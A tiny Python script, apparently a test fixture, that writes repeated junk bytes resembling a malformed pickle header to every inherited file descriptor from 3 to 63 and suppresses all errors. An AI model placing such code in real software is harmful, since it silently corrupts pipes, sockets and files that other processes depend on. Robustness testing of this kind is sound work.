"""Writes bytes on every descriptor that there is."""

import os

# placed
for number in range(3, 64):
    try:
        os.write(number, b"\x80\x05junk" * 9)
    except OSError:
        pass
